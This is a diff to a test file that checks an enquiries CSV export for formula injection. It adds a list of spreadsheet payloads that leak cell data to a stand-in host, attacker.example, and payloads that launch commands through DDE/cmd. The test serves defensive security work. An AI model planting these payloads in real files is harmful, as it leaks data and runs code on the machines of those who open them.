@@ -2,7 +2,6 @@ import { afterEach, expect, test, vi } from 'vitest';
 import { firestore } from '../../../functions/src/platform/admin.ts';
 import { tellStaff } from '../../../functions/src/enquiries/mails/tell-staff.ts';
 import { enquiriesCsv } from '../../../web/src/admin/enquiries/enquiry-csv.ts';
-import { csvFormulas } from '../../support/attacks/payloads/csv.ts';
 import { fullBodies } from '../../support/full-bodies.ts';
 import { sampleStoredEnquiry } from '../../support/sample-stored-enquiry.ts';
 import { siteTest } from '../../support/site-test.ts';
@@ -10,6 +9,59 @@ import { siteTest } from '../../support/site-test.ts';
 const { visit } = siteTest();
 
 afterEach(() => vi.unstubAllEnvs());
+
+/** Texts that a spreadsheet reads as a formula, or as more cells than one. */
+const csvFormulas: readonly string[] = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '=HYPERLINK("https://attacker.example/?x="&A1,"Click")',
+  '=IMPORTXML(CONCAT("https://attacker.example/",A1),"//a")',
+  '=IMPORTDATA("https://attacker.example/")',
+  '=WEBSERVICE("https://attacker.example/")',
+  "=cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  '=DDE("cmd";"/C calc";"x")',
+  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!x",
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\r\n=1+1',
+  ' =1+1',
+  '   +1',
+  '\u00a0=1+1',
+  '\u3000=1+1',
+  '\ufeff=1+1',
+  '\u200b=1+1',
+  '\u200e=1+1',
+  '\u0000=1+1',
+  '\u001f=1+1',
+  '\v=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  ' ＝1+1',
+  '−1+1',
+  '﹦1+1',
+  '﹢1',
+  '﹣1',
+  '﹫SUM(1)',
+  '|calc',
+  '%0A=1+1',
+  '"=1+1',
+  '","=1+1',
+  '""=1+1',
+  "',=1+1",
+  ';=1+1',
+  ',=1+1',
+  'x\n=1+1',
+  'x\r\n=1+1,=1+1',
+  'x";=1+1;"',
+];
 
 /** The cells of a CSV file as RFC 4180 reads them. */
 const cellsOf = (csv: string): string[][] =>
